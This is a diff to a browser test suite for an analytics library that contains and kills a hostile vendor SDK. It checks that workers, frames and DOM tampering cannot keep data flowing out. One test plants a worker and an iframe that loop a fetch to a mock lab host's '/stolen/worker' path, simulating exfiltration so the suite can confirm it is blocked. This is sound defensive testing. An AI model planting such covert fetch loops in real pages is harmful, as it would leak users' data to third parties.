@@ -7,11 +7,25 @@ let lab: Lab
 let profile: BrowserContext
 useLab((...opened) => ([lab, profile] = opened))
 
+const policy =
+  "default-src 'self' 'unsafe-inline'; worker-src 'none'; object-src 'none'; form-action 'self'"
+
+interface Infection {
+  readonly csp?: string
+  /** What `afterKill` is: `'reload'`, or a function that returns it, or nothing. */
+  readonly afterKill?: 'reload' | 'asks' | 'stays'
+}
+
 /** A tab in which the hostile SDK runs inline, as a vendor. */
-async function infected(csp?: string): Promise<Tab> {
+async function infected(infection: Infection = {}): Promise<Tab> {
   const tab = await lab.tab(profile)
   await tab.page.evaluate(
-    ({ host, policy }) => {
+    ({ host, csp, afterKill }) => {
+      const receipts: unknown[] = []
+      const answer = (receipt: unknown): 'reload' | undefined => {
+        sessionStorage.setItem('app:receipts', String(receipts.push(receipt)))
+        return afterKill === 'asks' ? 'reload' : undefined
+      }
       const { createAnalytics, hostileSdk } = window.cordon
       window.analytics = createAnalytics({
         vendors: {
@@ -30,11 +44,12 @@ async function infected(csp?: string): Promise<Tab> {
             },
           },
         },
-        ...(policy && { csp: policy }),
+        ...(csp && { csp }),
+        ...(afterKill && { afterKill: afterKill === 'reload' ? afterKill : answer }),
       })
       window.analytics.track('hello')
     },
-    { host: lab.mixpanel.url, policy: csp ?? '' },
+    { host: lab.mixpanel.url, ...infection },
   )
   await tab.page.waitForFunction(() => window.analytics.status().hostile?.sdk === 'loaded')
   return tab
@@ -77,9 +92,7 @@ describe('a hostile SDK in the page', () => {
   })
 
   test('gets nothing out at all after the kill where the app has given its own policy', async () => {
-    const tab = await infected(
-      "default-src 'self' 'unsafe-inline'; worker-src 'none'; object-src 'none'; form-action 'self'",
-    )
+    const tab = await infected({ csp: policy })
     await tab.page.evaluate(() => window.analytics.kill('hostile'))
     await attack(tab, 'patched')
     await attack(tab, 'walled')
@@ -87,6 +100,58 @@ describe('a hostile SDK in the page', () => {
     const { hostile } = await tab.page.evaluate(() => window.analytics.status())
     expect(hostile?.blocked.csp).toBeGreaterThan(0)
   })
+
+  test('has its workers and frames ended, where no policy reaches them; the receipt says so', async () => {
+    const tab = await infected({ csp: policy })
+    const { wall, failed } = await tab.page.evaluate(async (host) => {
+      const code = `setInterval(() => fetch('${host}/stolen/worker', { mode: 'no-cors' }), 20)`
+      new Worker(URL.createObjectURL(new Blob([code])))
+      const frames = ['data:text/html,<script>' + code + '</script>', 'about:blank'].map((src) =>
+        Object.assign(document.createElement('iframe'), { src }),
+      )
+      document.body.append(...frames)
+      await new Promise((resolve) => frames[0]?.addEventListener('load', resolve))
+      return window.analytics.kill('hostile')
+    }, lab.mixpanel.url)
+    expect(failed).toEqual([])
+    expect(wall).toMatchObject({ frames: 1, workers: 1, popups: 0, sharedWorkers: 0 })
+    const before = (await arrived(tab)).length
+    expect(await arrived(tab)).toHaveLength(before)
+  })
+
+  test.each([
+    ['append', () => (Element.prototype.append = () => {})],
+    ['createElement', () => (document.createElement = () => document.body)],
+    ['its head', () => document.head.remove()],
+  ])('cannot keep the policy down by taking away %s', async (_what, take) => {
+    const tab = await infected({ csp: policy })
+    await tab.page.evaluate(take)
+    const { wall, failed } = await tab.page.evaluate(() => window.analytics.kill('hostile'))
+    expect({ failed, stands: wall !== undefined }).toEqual({ failed: [], stands: true })
+    await attack(tab, 'walled')
+    expect(await arrived(tab)).toEqual([])
+  })
+
+  test.each([
+    ['at once', 'reload', 'reload'],
+    ['when the app says so', 'asks', 'reload'],
+    ['not where it does not', 'stays', 'navigate'],
+  ] as const)(
+    'is gone with the page, if that is wanted after the kill: %s',
+    async (_when, afterKill, type) => {
+      const tab = await infected({ afterKill })
+      const typeOf = () =>
+        tab.page.evaluate(
+          () => (performance.getEntriesByType('navigation')[0] as PerformanceNavigationTiming).type,
+        )
+      const loaded = type === 'reload' ? tab.page.waitForEvent('load') : undefined
+      await tab.page.evaluate(() => void window.analytics.kill('hostile'))
+      await loaded
+      expect(await typeOf()).toBe(type)
+      const receipts = await tab.page.evaluate(() => sessionStorage.getItem('app:receipts'))
+      expect(receipts).toBe(afterKill === 'reload' ? null : '1')
+    },
+  )
 
   test('cannot bring its storage back: it is erased again', async () => {
     const tab = await infected()
